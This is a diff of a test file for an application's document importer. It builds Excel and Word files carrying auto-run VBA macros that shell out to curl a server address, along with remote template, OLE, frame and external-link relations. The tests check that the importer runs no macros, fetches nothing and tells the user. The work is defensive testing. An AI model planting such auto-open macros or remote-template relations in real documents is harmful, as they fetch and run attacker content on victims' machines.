@@ -1,15 +1,28 @@
-import { mkdtemp, rm } from 'node:fs/promises';
+import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
 import { createServer, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { z } from 'zod';
-import { type Piece, repeated, writeBigZip, writeOldBook } from './big-parts';
+import { readProjectFile } from '../../electron/services/files/project-file';
+import { exportWord } from '../../electron/services/word/export';
+import { openPackage } from '../../electron/services/zip/package';
+import { writeZip } from '../../electron/services/zip/write';
+import { openEditor } from '../../shared/editor/editor';
+import { printModel } from '../../shared/editor/print';
+import { template } from '../support/templates';
+import { compoundFile, type Piece, repeated, writeBigZip, writeOldBook } from './big-parts';
 import { bundleChild } from './bundle-child';
 import { saidByNode } from './run-child';
 
-const answerSchema = z.object({ outcome: z.string(), said: z.boolean(), seconds: z.number(), megabytes: z.number() });
+const answerSchema = z.object({
+  outcome: z.string(),
+  notes: z.array(z.string()),
+  said: z.boolean(),
+  seconds: z.number(),
+  megabytes: z.number(),
+});
 const MAX_SECONDS = 2;
 const MAX_MEGABYTES = 300;
 
@@ -122,12 +135,66 @@ async function opened(file: string): Promise<z.infer<typeof answerSchema>> {
   return answerSchema.parse(JSON.parse(said));
 }
 
-async function expectSoon(file: string): Promise<void> {
-  const { outcome, said, seconds, megabytes } = await opened(file);
+async function expectSoon(file: string): Promise<z.infer<typeof answerSchema>> {
+  const answer = await opened(file);
+  const { outcome, said, seconds, megabytes } = answer;
   console.log(`${file}: ${outcome}, ${seconds.toFixed(2)} s, ${megabytes.toFixed(0)} MB`);
   expect(said).toBe(true);
   expect(seconds).toBeLessThan(MAX_SECONDS);
   expect(megabytes).toBeLessThan(MAX_MEGABYTES);
+  return answer;
+}
+
+/** Macros that would run at opening and fetch; a module is as large as a whole program's. */
+function macros(root: string): Record<string, Uint8Array> {
+  const module = `Sub AutoOpen()\nShell "curl ${address}/macro"\nEnd Sub\nSub Workbook_Open()\nAutoOpen\nEnd Sub\n`;
+  return {
+    [`${root}VBA/dir`]: Buffer.from('\x01\x00'),
+    [`${root}VBA/_VBA_PROJECT`]: Buffer.from([0xcc, 0x61, 0xff, 0xff]),
+    [`${root}VBA/ThisDocument`]: Buffer.from(module.repeat(50_000)),
+    [`${root}PROJECT`]: Buffer.from('ID="{0}"\r\nDocument=ThisDocument/&H00000000\r\nHelpContextID="0"\r\n'),
+  };
+}
+
+const related = (id: string, type: string, target: string, outside = false): string =>
+  `<Relationship Id="${id}" Type="${type.includes('://') ? type : `${R}/${type}`}" Target="${target}"${outside ? ' TargetMode="External"' : ''}/>`;
+const VBA = 'http://schemas.microsoft.com/office/2006/relationships/vbaProject';
+
+/** A package that is whole, with these parts beside its own and these relations beside those of its main part. */
+async function withParts(
+  bytes: Uint8Array,
+  main: string,
+  relations: string,
+  more: Readonly<Record<string, Uint8Array | string>>,
+): Promise<Uint8Array> {
+  const pack = await openPackage(bytes);
+  if (!pack.ok) throw new Error(pack.error.code);
+  const parts = new Map<string, Uint8Array>();
+  for (const name of pack.value.names()) {
+    const part = await pack.value.read(name);
+    if (!part.ok) throw new Error(part.error.code);
+    const text = new TextDecoder().decode(part.value);
+    parts.set(
+      name,
+      name === main ? Buffer.from(text.replace(/(?=<\/(?:\w+:)?Relationships>)/, relations)) : part.value,
+    );
+  }
+  for (const [name, content] of Object.entries(more)) parts.set(name, Buffer.from(content));
+  return await writeZip(parts);
+}
+
+const WORD_RELATIONS = 'word/_rels/document.xml.rels';
+
+/** Tables and sections of the sample that are enough to know it by. */
+const ENOUGH = 2;
+
+/** The beginning of the sample as its Word file. */
+async function sampleAsWord(): Promise<Uint8Array> {
+  const read = await readProjectFile(await readFile('assets/samples/laiyuan-2019.mzb'));
+  if (!read.ok) throw new Error(read.error.code);
+  const { narrative, tables, ...whole } = printModel(openEditor(await template(), read.value.project));
+  const sections = narrative && { ...narrative, sections: narrative.sections.slice(0, ENOUGH) };
+  return await exportWord({ ...whole, tables: tables.slice(0, ENOUGH), narrative: sections });
 }
 
 describe('a hostile file of last year', () => {
@@ -139,6 +206,63 @@ describe('a hostile file of last year', () => {
   it('all rows.xls is refused or read within 2 s and 300 MB', async () => {
     await writeOldBook(join(folder, 'all rows.xls'), 65_536, 4);
     await expectSoon('all rows.xls');
+  });
+
+  it.each(['xlsm', 'xlsx'])(
+    'macros in an .%s are not run: its tables are read, and the user is told',
+    async (extension) => {
+      const book = await readFile('tests/fixtures/workbooks/official-by-sheetjs.xlsx');
+      const vba = await compoundFile(macros('/'));
+      const relations =
+        related('m', VBA, 'vbaProject.bin') + related('x', 'externalLink', `${address}/book.xlsx`, true);
+      const file = `macros.${extension}`;
+      const whole = await withParts(book, 'xl/_rels/workbook.xml.rels', relations, { 'xl/vbaProject.bin': vba });
+      await writeFile(join(folder, file), whole);
+      const { outcome, notes } = await expectSoon(file);
+      expect(outcome).toBe('opened');
+      expect(notes).toContain('文件带有宏，宏没有运行也没有导入，只读取了单元格。');
+      expect(fetched).toBe(0);
+    },
+  );
+
+  it.each(['docm', 'docx'])(
+    'macros in a .%s are not run: its text is read, and the user is told',
+    async (extension) => {
+      const vba = await compoundFile(macros('/'));
+      const relations =
+        related('vba', VBA, 'vbaProject.bin') +
+        related('keys', 'http://schemas.microsoft.com/office/2006/relationships/keyMapCustomizations', 'custom.xml') +
+        related('ole', 'oleObject', `${address}/object.bin`, true) +
+        related('own', 'oleObject', 'embeddings/object.bin') +
+        related('frame', 'frame', `${address}/frame.htm`, true) +
+        related('sub', 'subDocument', `${address}/part.docx`, true);
+      const settings = related('t', 'attachedTemplate', `${address}/normal.dotm`, true);
+      const whole = await withParts(await sampleAsWord(), WORD_RELATIONS, relations, {
+        'word/vbaProject.bin': vba,
+        'word/vbaData.xml': `<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"><wne:docEvents><wne:eventDocOpen/></wne:docEvents></wne:vbaSuppData>`,
+        'word/embeddings/object.bin': vba,
+        'word/_rels/settings.xml.rels': `<Relationships xmlns="${PACKAGE}">${settings}</Relationships>`,
+      });
+      const file = `macros.${extension}`;
+      await writeFile(join(folder, file), whole);
+      const { outcome, notes } = await expectSoon(file);
+      expect(outcome).toBe('opened');
+      expect(notes).toContain('文件带有宏，宏没有运行也没有导入，只读取了文字。');
+      expect(fetched).toBe(0);
+    },
+  );
+
+  it.each(['_VBA_PROJECT_CUR', 'Macros'])('macros in an .xls (%s) are not run', async (storage) => {
+    await writeOldBook(join(folder, `${storage}.xls`), 200, 8, macros(`/${storage}/`));
+    await expectSoon(`${storage}.xls`);
+    expect(fetched).toBe(0);
+  });
+
+  it('an old Word file with macros is refused', async () => {
+    const file = await compoundFile({ '/WordDocument': Buffer.alloc(5000), ...macros('/Macros/') });
+    await writeFile(join(folder, 'macros.doc'), file);
+    expect((await expectSoon('macros.doc')).outcome).toBe('workbook-is-word');
+    expect(fetched).toBe(0);
   });
 
   it('has nothing fetched, in whatever way it refers to another place', async () => {
